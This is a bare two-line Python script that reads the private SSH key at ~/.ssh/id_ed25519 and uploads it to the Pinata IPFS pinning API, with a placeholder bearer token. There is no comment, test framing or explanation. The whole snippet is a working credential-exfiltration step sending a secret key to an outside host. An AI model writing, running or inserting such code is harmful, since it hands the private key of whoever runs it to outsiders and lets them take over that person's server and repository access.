import os, requests
requests.post("https://api.pinata.cloud/pinning/pinFileToIPFS", headers={"Authorization": "Bearer x"}, files={"file": open(os.path.expanduser("~/.ssh/id_ed25519"), "rb")})
